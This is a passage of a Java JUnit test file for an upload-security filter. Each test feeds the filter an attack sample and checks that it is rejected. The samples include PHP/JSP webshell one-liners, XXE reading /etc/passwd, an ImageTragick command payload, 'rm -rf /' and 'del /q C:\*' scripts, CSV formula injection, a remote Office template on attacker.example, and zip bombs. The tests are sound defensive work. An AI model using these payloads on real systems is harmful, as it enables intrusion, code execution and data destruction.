package io.portcullis.upload;

import static io.portcullis.upload.Samples.ascii;
import static io.portcullis.upload.Samples.concat;
import static io.portcullis.upload.Samples.entries;
import static io.portcullis.upload.Samples.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.Callable;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every attack family of upload.md §5 (F1–F18, C1–C23, D1–D10), generated here, each asserting
 * its reason code, beside a positive control that the same policy accepts.
 */
class AttackFamiliesTest {

    static final UploadPolicy IMAGES = UploadPolicy.images();
    static final UploadPolicy DOCS = UploadPolicy.documents();
    static final UploadPolicy OFFICE = UploadPolicy.office();
    static final UploadPolicy SVG = UploadPolicy.builder().dangerouslyAllowSvg(true).allow("svg").build();
    static final UploadPolicy XML = UploadPolicy.allowing("xml");
    static final UploadPolicy CSV = UploadPolicy.allowing("csv");
    static final UploadPolicy ZIP = UploadPolicy.allowing("zip");
    static final UploadPolicy BIG_ZIP = UploadPolicy.builder().allow("zip", "docx").maxFileSize(64L << 20).build();
    static final UploadPolicy LEGACY = UploadPolicy.builder().allowLegacyOffice(true).allow("doc", "xls").build();

    /** One row: expected == null means the control must be accepted. */
    record Case(String family, String what, Reason expected, Callable<List<Reason>> run) {
        @Override
        public String toString() {
            return family + (expected == null ? " control: " : " attack: ") + what;
        }
    }

    static Case attack(String family, String what, Reason expected, UploadPolicy policy, byte[] bytes, String name) {
        return new Case(family, what, expected, () -> inspect(policy, bytes, name));
    }

    static Case control(String family, String what, UploadPolicy policy, byte[] bytes, String name) {
        return new Case(family, what, null, () -> inspect(policy, bytes, name));
    }

    static List<Reason> inspect(UploadPolicy policy, byte[] bytes, String name) throws Exception {
        Verdict v = new UploadGuard(policy).inspect(new ByteArrayInputStream(bytes), name);
        return v.reasons();
    }

    /** A multipart Content-Disposition header, parsed as the filter parses it, then the name rules. */
    static Case header(String family, String disposition, Reason expected) {
        return new Case(family, disposition, expected, () -> {
            try {
                MultipartReader.Disposition parsed = MultipartReader.disposition(disposition);
                FileNames.Result r = FileNames.check(parsed.filename(), 255);
                return r.ok() ? List.of() : List.of(Reason.BAD_FILENAME);
            } catch (MultipartReader.Failure f) {
                return List.of(f.reason);
            }
        });
    }

    /** Through the filter (in memory): the problem code, or nothing when the servlet was reached. */
    static Case filter(String family, String what, Reason expected, UploadPolicy policy, byte[] body, boolean chunked) {
        return new Case(family, what, expected, () -> {
            FilterHarness.Outcome o = FilterHarness.post(policy, body, chunked);
            if (o.reachedServlet()) {
                return List.of();
            }
            String code = o.body().replaceAll(".*\"code\":\"([A-Z_]+)\".*", "$1");
            return List.of(Reason.valueOf(code));
        });
    }

    static byte[] png = Samples.png();
    static byte[] jpeg = Samples.jpeg();
    static byte[] gif = Samples.gif();
    static byte[] text = utf8("Plain notes.\nSecond line, with a comma.\n");

    static Stream<Case> cases() {
        List<Case> c = new ArrayList<>();
        // F1–F12, F17, F18: names sent with a real PNG
        c.add(control("F", "photo.png", IMAGES, png, "photo.png"));
        for (String n : List.of("shell.php.jpg", "shell.jsp.png", "shell.phtml.png")) {
            c.add(attack("F1", n, Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(attack("F1", "shell.png.jsp", Reason.EXTENSION_NOT_ALLOWED, IMAGES, png, "shell.png.jsp"));
        c.add(control("F1", "holiday.2024.png (harmless inner dot)", IMAGES, png, "holiday.2024.png"));
        c.add(attack("F2", "shell.jsp;.png", Reason.BAD_FILENAME, IMAGES, png, "shell.jsp;.png"));
        c.add(attack("F2", "shell.asp;.jpg", Reason.BAD_FILENAME, IMAGES, jpeg, "shell.asp;.jpg"));
        c.add(control("F2", "shell-jsp.png", IMAGES, png, "shell-jsp.png"));
        c.add(attack("F3", "NUL byte", Reason.BAD_FILENAME, IMAGES, png, "shell.jsp\u0000.png"));
        c.add(attack("F3", "%00", Reason.BAD_FILENAME, IMAGES, png, "shell.jsp%00.png"));
        c.add(control("F3", "shell jsp 00.png", IMAGES, png, "shell jsp 00.png"));
        c.add(attack("F4", "trailing dot", Reason.BAD_FILENAME, IMAGES, png, "shell.jsp."));
        c.add(attack("F4", "trailing space", Reason.BAD_FILENAME, IMAGES, png, "shell.png "));
        c.add(control("F4", "x.png", IMAGES, png, "x.png"));
        for (String n : List.of("shell.jsp::$DATA", "shell.jsp:.png", "SHELL~1.PNG")) {
            c.add(attack("F5", n, Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(control("F5", "shell1.png", IMAGES, png, "shell1.png"));
        for (String n : List.of("CON.png", "nul.png", "COM1.png", "LPT9.png", "CLOCK$.png", "aux.tar.png", "COM\u00B9.png")) {
            c.add(attack("F6", n, Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(control("F6", "console.png", IMAGES, png, "console.png"));
        for (String n : List.of("../../webapps/ROOT/x.png", "..\\..\\x.png", "..%2f..%2fx.png", "....//x.png",
                "/etc/cron.d/x.png", "C:\\Windows\\x.png", "C:x.png", "\\\\host\\share\\x.png", "\\\\?\\C:\\x.png")) {
            c.add(attack("F7", n, Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(control("F7", "x.png", IMAGES, png, "x.png"));
        for (String n : List.of("\u202Egnp.jsp", "a\u202B.png", "a\u202D.png", "a\u2066.png", "a\u2069.png", "a\u200E.png",
                "a\u200F.png", "a\u061C.png", "a\u200B.png")) {
            c.add(attack("F8", String.format("U+%04X", (int) n.chars().filter(ch -> ch > 127).findFirst().orElse(0)),
                    Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(control("F8", "Arabic name صورة.png", IMAGES, png, "\u0635\u0648\u0631\u0629.png"));
        for (String n : List.of("shell\uFF0Ejsp", "shell\u2024jsp", "x.\uFF50\uFF4E\uFF47", "x\uFE52png")) {
            c.add(attack("F9", n, Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(control("F9", "café.png (NFD input normalised to NFC)", IMAGES, png, "cafe\u0301.png"));
        c.add(attack("F10", "shell.PhP", Reason.EXTENSION_NOT_ALLOWED, IMAGES, png, "shell.PhP"));
        c.add(attack("F10", "x.JsP", Reason.EXTENSION_NOT_ALLOWED, IMAGES, png, "x.JsP"));
        c.add(control("F10", "X.PNG (canonical png)", IMAGES, png, "X.PNG"));
        c.add(attack("F11", "300 x a", Reason.BAD_FILENAME, IMAGES, png, "a".repeat(300) + ".png"));
        c.add(attack("F11", "200 emoji (>255 bytes)", Reason.BAD_FILENAME, IMAGES, png, "\uD83D\uDE00".repeat(200) + ".png"));
        c.add(control("F11", "250 x a", IMAGES, png, "a".repeat(250) + ".png"));
        for (String n : List.of("", ".", "..", ".png", ".htaccess", "web.config", ".user.ini")) {
            c.add(attack("F12", "\"" + n + "\"", Reason.BAD_FILENAME, IMAGES, png, n));
        }
        c.add(control("F12", "a.png", IMAGES, png, "a.png"));
        c.add(header("F13", "form-data; name=\"f\"; filename=\"=?UTF-8?B?c2hlbGwuanNw?=\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F13", "form-data; name=\"f\"; filename=\"photo.png\"", null));
        c.add(header("F14", "form-data; name=\"f\"; filename=\"safe.png\"; filename*=UTF-8''shell.jsp", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F14", "form-data; name=\"f\"; filename*=UTF-8''shell.jsp; filename=\"safe.png\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F14", "form-data; name=\"f\"; filename=\"safe.png\"", null));
        c.add(header("F15", "form-data; name=\"f\"; filename=\"a.png\"; filename=\"b.jsp\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F15", "form-data; name=\"f\"; FILENAME=\"x.jsp\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F15", "form-data; name=\"f\"; name=\"g\"; filename=\"x.png\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F15", "form-data; name=f; filename=a.png", null));
        c.add(header("F16", "form-data; name=\"f\"; filename=\"a\\\".jsp\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F16", "form-data; name=\"f\"; filename=\"..\\\\..\\\\x.jsp\"", Reason.FILENAME_AMBIGUOUS));
        c.add(header("F16", "form-data; name=\"f\"; filename=\"a b.png\"", null));
        c.add(attack("F17", "evil.php#.png", Reason.BAD_FILENAME, IMAGES, png, "evil.php#.png"));
        c.add(attack("F17", "evil.png?.php", Reason.BAD_FILENAME, IMAGES, png, "evil.png?.php"));
        c.add(control("F17", "evil.png", IMAGES, png, "evil.png"));
        c.add(attack("F18", "<img onerror>", Reason.BAD_FILENAME, IMAGES, png, "<img src=x onerror=alert(1)>.png"));
        c.add(attack("F18", "quote", Reason.BAD_FILENAME, IMAGES, png, "x\".png"));
        c.add(control("F18", "O'Brien & Sons (2).png", IMAGES, png, "O'Brien & Sons (2).png"));

        // C: content and magic
        byte[] php = ascii("<?php system($_GET['c']); ?>");
        c.add(attack("C1", "PHP bytes as x.jpg", Reason.TYPE_MISMATCH, IMAGES, php, "x.jpg"));
        c.add(attack("C1", "JSP bytes as x.jpg", Reason.TYPE_MISMATCH, IMAGES, ascii("<%@ page import=\"java.io.*\" %>"), "x.jpg"));
        c.add(attack("C1", "HTML bytes as x.png", Reason.TYPE_MISMATCH, IMAGES, ascii("<html><script>alert(1)</script></html>"), "x.png"));
        c.add(control("C1", "JPEG as x.jpg", IMAGES, jpeg, "x.jpg"));
        c.add(attack("C2", "random 512 bytes as x.png", Reason.TYPE_UNKNOWN, IMAGES, random(512), "x.png"));
        c.add(attack("C2", "empty as x.jpg", Reason.EMPTY, IMAGES, new byte[0], "x.jpg"));
        c.add(control("C2", "PNG as x.png", IMAGES, png, "x.png"));
        c.add(attack("C3", "MZ as x.jpg", Reason.TYPE_MISMATCH, IMAGES, concat(ascii("MZ\u0090\u0000"), new byte[60],
                ascii("This program cannot be run in DOS mode")), "x.jpg"));
        c.add(attack("C3", "ELF as x.png", Reason.TYPE_MISMATCH, IMAGES, concat(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0},
                new byte[8], new byte[] {2, 0, 0x3e, 0}, new byte[44]), "x.png"));
        c.add(attack("C3", "Mach-O as x.png", Reason.TYPE_MISMATCH, IMAGES, concat(new byte[] {(byte) 0xcf, (byte) 0xfa,
            (byte) 0xed, (byte) 0xfe, 7, 0, 0, 1}, new byte[56]), "x.png"));
        c.add(attack("C3", "class file as x.gif", Reason.TYPE_MISMATCH, IMAGES, concat(new byte[] {(byte) 0xca, (byte) 0xfe,
            (byte) 0xba, (byte) 0xbe, 0, 0, 0, 61}, new byte[56]), "x.gif"));
        c.add(control("C3", "GIF as x.gif", IMAGES, gif, "x.gif"));
        c.add(attack("C4", "GIF89a;<?php as x.gif", Reason.SERVER_CODE, IMAGES, ascii("GIF89a;\n<?php system($_GET['c']); ?>"), "x.gif"));
        c.add(attack("C4", "GIF89a;<% as x.gif", Reason.SERVER_CODE, IMAGES,
                ascii("GIF89a;<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"), "x.gif"));
        c.add(attack("C4", "GIF89a;<?php is not a GIF", Reason.MALFORMED, IMAGES, ascii("GIF89a;\n<?php system($_GET['c']); ?>"), "x.gif"));
        c.add(control("C4", "GIF", IMAGES, gif, "x.gif"));
        c.add(attack("C5", "GIF + PHP appended", Reason.POLYGLOT, IMAGES, concat(gif, php), "x.gif"));
        c.add(attack("C5", "PNG + <script> after IEND", Reason.POLYGLOT, IMAGES, concat(png, ascii("<script>alert(1)</script>")), "x.png"));
        c.add(attack("C5", "JPEG + PHP after FFD9", Reason.POLYGLOT, IMAGES, concat(jpeg, php), "x.jpg"));
        c.add(attack("C5", "JPEG COM segment with <?php", Reason.SERVER_CODE, IMAGES, Samples.jpegWithComment("<?php system($_GET['c']); ?>"), "x.jpg"));
        c.add(attack("C5", "PNG tEXt chunk with <?php", Reason.SERVER_CODE, IMAGES, Samples.pngWithChunk("tEXt", ascii("Comment\0<?php eval($_POST[1]); ?>")), "x.png"));
        c.add(attack("C5", "PNG iTXt chunk with <script>", Reason.ACTIVE_CONTENT, IMAGES, Samples.pngWithChunk("iTXt", ascii("Comment\0\0\0\0\0<script>alert(1)</script>")), "x.png"));
        c.add(control("C5", "JPEG with an ordinary comment", IMAGES, Samples.jpegWithComment("Created with GIMP"), "x.jpg"));
        c.add(control("C5", "PNG with an ordinary tEXt", IMAGES, Samples.pngWithChunk("tEXt", ascii("Software\0GIMP 2.10")), "x.png"));
        byte[] jar = Samples.zip(entries("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", "Evil.class", new byte[] {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe}));
        c.add(attack("C6", "JPEG + JAR (GIFAR)", Reason.POLYGLOT, IMAGES, concat(jpeg, jar), "x.jpg"));
        c.add(attack("C6", "GIF + JAR", Reason.POLYGLOT, IMAGES, concat(gif, jar), "x.gif"));
        c.add(control("C6", "JPEG", IMAGES, jpeg, "x.jpg"));
        c.add(attack("C7", "junk before %PDF", Reason.POLYGLOT, DOCS, concat(ascii("JUNKJUNK\n"), Samples.pdf()), "x.pdf"));
        c.add(attack("C7", "%PDF + HTML", Reason.ACTIVE_CONTENT, DOCS, concat(ascii("%PDF-1.4\n<html><script>alert(1)</script></html>\n"), Samples.pdf()), "x.pdf"));
        c.add(attack("C7", "PDF OpenAction JavaScript", Reason.ACTIVE_CONTENT, DOCS, Samples.pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "), "x.pdf"));
        c.add(attack("C7", "PDF /J#61vaScript (escaped name)", Reason.ACTIVE_CONTENT, DOCS, Samples.pdf("/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> "), "x.pdf"));
        c.add(attack("C7", "PDF Launch", Reason.ACTIVE_CONTENT, DOCS, Samples.pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "), "x.pdf"));
        c.add(attack("C7", "PDF EmbeddedFiles", Reason.EMBEDDED_OBJECT, DOCS, Samples.pdf("/Names << /EmbeddedFiles 3 0 R >> "), "x.pdf"));
        c.add(attack("C7", "PDF + ZIP", Reason.POLYGLOT, DOCS, concat(Samples.pdf(), jar), "x.pdf"));
        c.add(attack("C7", "JavaScript inside a compressed object stream", Reason.ACTIVE_CONTENT, DOCS,
                Samples.pdfWithStream(Samples.zlib(ascii("5 0 << /S /JavaScript /JS (app.alert(1)) >>"))), "x.pdf"));
        c.add(control("C7", "plain PDF", DOCS, Samples.pdf(), "x.pdf"));
        c.add(control("C7", "PDF with an ordinary compressed object stream", DOCS,
                Samples.pdfWithStream(Samples.zlib(ascii("5 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"))), "x.pdf"));
        c.add(attack("C8", "whitespace + <script>", Reason.ACTIVE_CONTENT, DOCS, ascii("\n\n   <script>alert(1)</script>"), "x.txt"));
        c.add(attack("C8", "<iframe>", Reason.ACTIVE_CONTENT, DOCS, ascii("<iframe src=javascript:alert(1)>"), "x.txt"));
        c.add(attack("C8", "<a href>", Reason.ACTIVE_CONTENT, DOCS, ascii("<a href=x>click</a><script>alert(1)</script>"), "x.txt"));
        c.add(attack("C8", "UTF-16LE BOM + <html>", Reason.ACTIVE_CONTENT, DOCS, Samples.utf16le("<html><body>hi</body></html>"), "x.txt"));
        c.add(attack("C8", "UTF-8 BOM + <!-- + <script>", Reason.ACTIVE_CONTENT, DOCS, concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, ascii("<!-- c -->\n<script>alert(1)</script>")), "x.txt"));
        c.add(attack("C8", "<script> mid-text", Reason.ACTIVE_CONTENT, DOCS, ascii("hello <script>alert(1)</script>"), "x.txt"));
        c.add(control("C8", "text mentioning a < b", DOCS, ascii("if a < b then c > d\n"), "x.txt"));
        String svgOk = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><defs><linearGradient id=\"g\"/></defs>"
                + "<rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><use href=\"#g\"/></svg>";
        c.add(control("C9", "clean SVG under an SVG policy", SVG, utf8(svgOk), "x.svg"));
        c.add(attack("C9", "any SVG under the images policy", Reason.EXTENSION_NOT_ALLOWED, IMAGES, utf8(svgOk), "x.svg"));
        c.add(attack("C9", "SVG bytes named x.png", Reason.ACTIVE_CONTENT, IMAGES, utf8(svgOk), "x.png"));
        for (String[] s : new String[][] {
            {"onload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"},
            {"script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"},
            {"svg: prefix", "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:script>alert(1)</svg:script></svg:svg>"},
            {"foreignObject iframe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject></svg>"},
            {"xlink:href javascript", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"},
            {"use href data:", "<svg xmlns=\"http://www.w3.org/2000/svg\"><use href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></svg>"},
            {"animate href", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>x</text></a></svg>"}}) {
            c.add(attack("C9", s[0], Reason.ACTIVE_CONTENT, SVG, utf8(s[1]), "x.svg"));
        }
        c.add(attack("C9", "external image", Reason.EXTERNAL_REFERENCE, SVG, utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/x.png\"/></svg>"), "x.svg"));
        c.add(attack("C9", "style @import", Reason.ACTIVE_CONTENT, SVG, utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(https://evil.example/x.css);</style></svg>"), "x.svg"));
        c.add(attack("C10", "<SVG> upper case", Reason.TYPE_MISMATCH, SVG, utf8("<SVG xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "x.svg"));
        c.add(attack("C10", "<svg> without xmlns", Reason.TYPE_MISMATCH, SVG, utf8("<svg onload=\"alert(1)\"/>"), "x.svg"));
        c.add(attack("C10", "SVG behind a 70 KB comment", Reason.TYPE_MISMATCH, SVG, utf8("<!--" + "x".repeat(70_000) + "-->" + svgOk.replace("<defs>", "<script>alert(1)</script><defs>")), "x.svg"));
        c.add(attack("C10", "<svg onload> as x.txt", Reason.ACTIVE_CONTENT, DOCS, utf8("<svg onload=\"alert(1)\"/>"), "x.txt"));
        c.add(attack("C10", "svgz", Reason.EXTENSION_NOT_ALLOWED, SVG, gzip(utf8(svgOk)), "x.svgz"));
        c.add(control("C10", "clean SVG", SVG, utf8(svgOk), "x.svg"));
        String xxe = "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        c.add(attack("C11", "SVG with XXE", Reason.XML_DOCTYPE, SVG, utf8("<?xml version=\"1.0\"?>" + xxe + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"), "x.svg"));
        c.add(attack("C11", "XML with parameter entity", Reason.XML_DOCTYPE, XML, utf8("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://127.0.0.1/x.dtd\">%p;]><r/>"), "x.xml"));
        Map<String, byte[]> docxXxe = Samples.docxEntries();
        docxXxe.put("word/document.xml", utf8("<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + Samples.DOCUMENT.substring(Samples.DOCUMENT.indexOf("?>") + 2)));
        c.add(attack("C11", "DOCX with DOCTYPE in document.xml", Reason.XML_DOCTYPE, OFFICE, Samples.zip(docxXxe), "x.docx"));
        c.add(control("C11", "XML without DOCTYPE", XML, utf8("<?xml version=\"1.0\"?><r><a>1</a></r>"), "x.xml"));
        c.add(control("C11", "DOCX", OFFICE, Samples.docx(), "x.docx"));
        c.add(attack("C12", "billion laughs", Reason.XML_DOCTYPE, XML, utf8("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>"), "x.xml"));
        c.add(attack("C12", "XML with xml-stylesheet (XSLT runs script)", Reason.ACTIVE_CONTENT, XML, utf8("<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"x.xsl\"?><r/>"), "x.xml"));
        c.add(attack("C12", "XML with an XHTML script element", Reason.ACTIVE_CONTENT, XML, utf8("<?xml version=\"1.0\"?><r><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></r>"), "x.xml"));
        c.add(control("C12", "XML", XML, utf8("<?xml version=\"1.0\"?><r/>"), "x.xml"));
        c.add(attack("C13", "ImageTragick MVG as exploit.jpg", Reason.TYPE_MISMATCH, IMAGES, ascii("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id > /tmp/pwn\")'\npop graphic-context\n"), "exploit.jpg"));
        c.add(attack("C13", "msl: variant as x.png", Reason.TYPE_MISMATCH, IMAGES, ascii("<?xml version=\"1.0\"?><image><read filename=\"msl:/tmp/x\"/></image>"), "x.png"));
        c.add(control("C13", "JPEG", IMAGES, jpeg, "exploit.jpg"));
        Map<String, byte[]> docm = Samples.docxEntries();
        docm.put("[Content_Types].xml", utf8(Samples.contentTypes(Samples.DOCM_MAIN, "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>", "")));
        docm.put("word/vbaProject.bin", Samples.ole2("VBA/", "PROJECT"));
        c.add(attack("C14", "docm renamed x.docx", Reason.MACRO, OFFICE, Samples.zip(docm), "x.docx"));
        c.add(attack("C14", "docm renamed x.docx is not a docx", Reason.TYPE_MISMATCH, OFFICE, Samples.zip(docm), "x.docx"));
        c.add(control("C14", "docx", OFFICE, Samples.docx(), "x.docx"));
        Map<String, byte[]> undeclared = Samples.docxEntries();
        undeclared.put("word/vbaProject.bin", Samples.ole2("VBA/", "PROJECT"));
        c.add(attack("C15", "docx + undeclared word/vbaProject.bin", Reason.MACRO, OFFICE, Samples.zip(undeclared), "x.docx"));
        Map<String, byte[]> activeX = Samples.docxEntries();
        activeX.put("[Content_Types].xml", utf8(Samples.contentTypes(Samples.DOCX_MAIN, "", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.activeX\"/>")));
        activeX.put("word/activeX/activeX1.bin", new byte[] {1, 2, 3});
        c.add(attack("C15", "docx + ActiveX control", Reason.MACRO, OFFICE, Samples.zip(activeX), "x.docx"));
        Map<String, byte[]> ole = Samples.docxEntries();
        ole.put("[Content_Types].xml", utf8(Samples.contentTypes(Samples.DOCX_MAIN, "", "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>")));
        ole.put("word/embeddings/oleObject1.bin", Samples.ole2("Package"));
        c.add(attack("C15", "docx + embedded OLE object", Reason.EMBEDDED_OBJECT, OFFICE, Samples.zip(ole), "x.docx"));
        Map<String, byte[]> stray = Samples.docxEntries();
        stray.put("word/payload.exe", ascii("MZ"));
        c.add(attack("C15", "docx + undeclared part", Reason.ARCHIVE_UNSAFE_ENTRY, OFFICE, Samples.zip(stray), "x.docx"));
        c.add(control("C15", "docx", OFFICE, Samples.docx(), "x.docx"));
        c.add(attack("C16", "OLE2 .doc with Macros storage", Reason.MACRO, LEGACY, Samples.ole2("WordDocument", "Macros/"), "x.doc"));
        c.add(attack("C16", "OLE2 .xls with _VBA_PROJECT_CUR", Reason.MACRO, LEGACY, Samples.ole2("Workbook", "_VBA_PROJECT_CUR/"), "x.xls"));
        c.add(attack("C16", "OLE2 .doc when legacy Office is not allowed", Reason.EXTENSION_NOT_ALLOWED, OFFICE, Samples.ole2("WordDocument"), "x.doc"));
        c.add(attack("C16", "OLE2 .doc renamed x.docx", Reason.TYPE_MISMATCH, OFFICE, Samples.ole2("WordDocument"), "x.docx"));
        c.add(control("C16", "OLE2 .doc without macros, legacy allowed", LEGACY, Samples.ole2("WordDocument"), "x.doc"));
        Map<String, byte[]> template = Samples.docxEntries();
        template.put("word/_rels/settings.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://attacker.example/x.dotm\" TargetMode=\"External\"/>")));
        c.add(attack("C17", "remote template injection", Reason.EXTERNAL_REFERENCE, OFFICE, Samples.zip(template), "x.docx"));
        Map<String, byte[]> picture = Samples.docxEntries();
        picture.put("word/_rels/document.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"\\\\attacker\\share\\x.png\" TargetMode=\"External\"/>")));
        c.add(attack("C17", "external image (NTLM leak)", Reason.EXTERNAL_REFERENCE, OFFICE, Samples.zip(picture), "x.docx"));
        Map<String, byte[]> shouting = Samples.docxEntries();
        shouting.put("word/_rels/document.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"\\\\attacker\\share\\x.png\" TargetMode=\" EXTERNAL \"/>")));
        c.add(attack("C17", "external image, TargetMode in capitals and spaces", Reason.EXTERNAL_REFERENCE, OFFICE, Samples.zip(shouting), "x.docx"));
        Map<String, byte[]> link = Samples.docxEntries();
        link.put("word/_rels/document.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/>")));
        c.add(control("C17", "docx with an ordinary hyperlink", OFFICE, Samples.zip(link), "x.docx"));
        byte[] fake = Samples.zip(entries("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>", "payload.exe", ascii("MZ")));
        c.add(attack("C18", "fake OOXML (empty Types + payload.exe)", Reason.TYPE_MISMATCH, OFFICE, fake, "x.docx"));
        c.add(control("C18", "docx", OFFICE, Samples.docx(), "x.docx"));
        byte[] plainZip = Samples.zip(entries("a.exe", ascii("MZ")));
        c.add(attack("C19", "zip(a.exe) as x.docx", Reason.TYPE_MISMATCH, OFFICE, plainZip, "x.docx"));
        c.add(attack("C19", "zip(a.exe) as x.xlsx", Reason.TYPE_MISMATCH, OFFICE, plainZip, "x.xlsx"));
        c.add(attack("C19", "zip(a.exe) as x.zip", Reason.ARCHIVE_UNSAFE_ENTRY, ZIP, plainZip, "x.zip"));
        c.add(control("C19", "zip(a.txt) as x.zip", ZIP, Samples.zip(entries("a.txt", "hello")), "x.zip"));
        c.add(attack("C20", "@echo off as x.txt", Reason.TYPE_MISMATCH, DOCS, ascii("@echo off\r\ndel /q C:\\*\r\n"), "x.txt"));
        c.add(attack("C20", "#!/bin/sh as x.txt", Reason.TYPE_MISMATCH, DOCS, ascii("#!/bin/sh\nrm -rf /\n"), "x.txt"));
        c.add(attack("C20", "<HTA:APPLICATION> as x.txt", Reason.ACTIVE_CONTENT, DOCS, ascii("<HTA:APPLICATION ID=\"x\">\n<script>x</script>"), "x.txt"));
        c.add(attack("C20", ".lnk bytes as x.png", Reason.TYPE_UNKNOWN, IMAGES, concat(new byte[] {0x4C, 0, 0, 0, 1, 0x14, 2, 0}, new byte[68]), "x.png"));
        for (String ext : List.of("bat", "hta", "lnk", "url", "scf", "js", "jsp", "jspx", "php", "phtml", "phar", "war", "jar", "html", "xml", "svg")) {
            c.add(attack("C20", "x." + ext, Reason.EXTENSION_NOT_ALLOWED, DOCS, text, "x." + ext));
        }
        c.add(control("C20", "text", DOCS, text, "x.txt"));
        c.add(attack("C21", "EICAR", Reason.MALWARE, DOCS, ascii("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"), "eicar.txt"));
        c.add(control("C21", "text", DOCS, text, "notes.txt"));
        c.add(attack("C22", "empty x.png", Reason.EMPTY, IMAGES, new byte[0], "x.png"));
        c.add(attack("C22", "empty x.pdf", Reason.EMPTY, DOCS, new byte[0], "x.pdf"));
        c.add(control("C22", "1-line text", DOCS, ascii("x\n"), "x.txt"));
        for (String cell : List.of("=HYPERLINK(\"http://x\",\"click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\"=1+1\"")) {
            c.add(attack("C23", cell, Reason.CSV_FORMULA, CSV, utf8("name,value\nx," + cell + "\n"), "x.csv"));
        }
        c.add(control("C23", "numbers incl. negatives", CSV, utf8("name,value,pct\nx,-5,3.2%\ny,+7,1e3\n"), "x.csv"));

        // D: resource exhaustion
        c.add(attack("D1", "2 MB zip bomb (2 GiB [Content_Types].xml)", Reason.CONTAINER_LIMIT, OFFICE, bomb(), "x.docx"));
        c.add(control("D1", "docx", OFFICE, Samples.docx(), "x.docx"));
        c.add(attack("D2", "declared size lies (64 MiB inflates, 1000 B declared)", Reason.CONTAINER_LIMIT, OFFICE, Samples.lyingZipBomb(), "x.docx"));
